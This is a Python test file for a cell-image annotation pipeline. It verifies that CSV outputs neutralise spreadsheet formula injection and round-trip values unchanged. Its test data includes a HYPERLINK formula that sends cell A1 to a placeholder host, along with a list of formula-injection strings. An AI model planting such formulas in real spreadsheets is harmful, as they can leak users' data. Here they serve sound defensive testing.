"""No cell of a written table is a formula, numbers stay numbers, and what is written is read back unchanged."""

import csv
import re
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from cell_pipelines.annotations.building import AnnotationBuilder
from cell_pipelines.annotations.formats.registry import FORMATS, create_format, read_annotations, write_annotations
from cell_pipelines.annotations.images import ImageIndex, ImageRecord
from cell_pipelines.datasets.tidy_table_dataset import OptionalTableDataset, TidyTableDataset
from cell_pipelines.datasets.whole_file_dataset import WholeCSVDataset
from cell_pipelines.invocation import Invocation, note_command
from cell_pipelines.spreadsheet_text import protect, protect_table, restore, restore_table

LINK = '=HYPERLINK("http://host/?"&A1,"open")'
HOSTILE = [LINK, "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "-ve", "＝1", "'=1", "''@x", "=1,2", '="a"', "-inf"]
PLAIN = ["cell", "", "-5", "+3.2e-4", ".5", "'quoted'", "a=b", "CD4+", "5-3", "-.5"]


NUMBER = re.compile(r"[-+]?(\d+\.?\d*|\.\d+)(e[-+]?\d+)?", re.IGNORECASE)
WRITING = re.compile(r"\.to_csv\(|\.to_excel\(|csv\.writer\(")


def is_formula(cell: str) -> bool:
    return cell[:1] in tuple("=+-@\t\r\n＝＋－＠") and not NUMBER.fullmatch(cell)


def cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as file:
        return [cell for row in csv.reader(file) for cell in row]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_a_spreadsheet_would_run_stays_text(text: str) -> None:
    assert protect(text) == f"'{text}" and restore(protect(text)) == text
    assert not is_formula(protect(text))


@pytest.mark.parametrize("value", [*PLAIN, 5, -5.5, None, np.nan, True, np.float64(-1)])
def test_everything_else_is_left_alone(value: object) -> None:
    assert protect(value) is value and restore(value) is value


@given(st.text(alphabet="=+-@\t\r\n'1a. ", max_size=6))
def test_any_text_comes_back(text: str) -> None:
    assert restore(protect(text)) == text
    assert not is_formula(protect(text))


def table() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "image": pd.Series([LINK, "a.png", None], dtype=object),
            "class": pd.Categorical(["-ve", "+ve", "-ve"]),
            "note": pd.Series(["@x", "b", None], dtype="string"),
            "depth": [-1.5, np.nan, 2.0],
            "count": [-1, 0, 3],
            "=1+1": ["x", "=y", "z"],
        }
    )


def test_a_protected_table_keeps_its_types_and_comes_back() -> None:
    before = table()
    protected = protect_table(before)
    pd.testing.assert_frame_equal(before, table())
    assert protected.dtypes[["depth", "count", "note"]].tolist() == before.dtypes[["depth", "count", "note"]].tolist()
    pd.testing.assert_frame_equal(restore_table(protected), before)
    indexed = before.set_index("image")
    pd.testing.assert_frame_equal(restore_table(protect_table(indexed)), indexed)
    several = pd.DataFrame([[1, 2]], columns=pd.MultiIndex.from_tuples([("=a", "b"), ("c", "@d")]))
    assert protect_table(several).columns.tolist() == [("'=a", "b"), ("c", "'@d")]
    pd.testing.assert_frame_equal(restore_table(protect_table(several)), several)


def test_the_catalogs_tables_hold_no_formula_and_are_read_back(tmp_path: Path) -> None:
    path = tmp_path / "counts.csv"
    dataset = WholeCSVDataset(filepath=str(path), save_args={"index": False})
    dataset.save(table())
    assert not any(map(is_formula, cells(path)))
    assert cells(path).count("-1.5") == 1
    loaded = dataset.load()
    assert (
        loaded["image"][0] == LINK
        and list(loaded) == list(table())
        and loaded["class"].tolist() == ["-ve", "+ve", "-ve"]
    )
    tidy = TidyTableDataset(filepath=str(tmp_path / "t"), model="yolo")
    tidy.save(table().astype({"class": object}))
    assert not any(map(is_formula, cells(tmp_path / "t.csv")))
    assert tidy.load()["image"][0] == LINK
    for as_text in (True, False):
        assert OptionalTableDataset(default=str(path), as_text=as_text).load()["image"][0] == LINK


def test_the_list_of_commands_holds_no_formula(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(Invocation, "command", lambda self: LINK)
    note_command(tmp_path / "commands.csv", Invocation("test", ("@evil",), {}), "-run")
    assert not any(map(is_formula, cells(tmp_path / "commands.csv")))


def test_every_format_that_writes_a_table_writes_no_formula_and_reads_it_back(tmp_path: Path) -> None:
    tables = 0
    builder = AnnotationBuilder((LINK, "+ve", "-ve"))
    row = builder.add_image("@a.png", width=60, height=60)
    for number, category in enumerate((LINK, "+ve", "-ve")):
        corner = 5.0 + 15 * number
        builder.add_box(row, category, (corner, corner, corner + 10, corner + 10))
    annotations = builder.build()
    for name in FORMATS:
        folder = tmp_path / name
        write_annotations(annotations, folder, format=name)
        for path in folder.rglob("*.csv"):
            tables += 1
            assert not any(map(is_formula, cells(path))), path
        if any(folder.rglob("*.csv")) and create_format(name).CAPABILITIES.classes == "all":
            again = read_annotations(folder, ImageIndex([ImageRecord("@a.png", 60, 60)]), format=name).annotations
            assert set(again.categories) == {LINK, "+ve", "-ve"} and again.n_objects == 3, name
    assert tables >= 5


def test_no_other_code_writes_a_table(tmp_path: Path) -> None:
    """Whoever writes CSV protects it: each file that does so imports how."""
    source = Path(__file__).parents[1] / "src" / "cell_pipelines"
    writing = [path for path in source.rglob("*.py") if WRITING.search(path.read_text("utf-8"))]
    assert len(writing) >= 8
    assert [path.name for path in writing if "spreadsheet_text import" not in path.read_text("utf-8")] == []
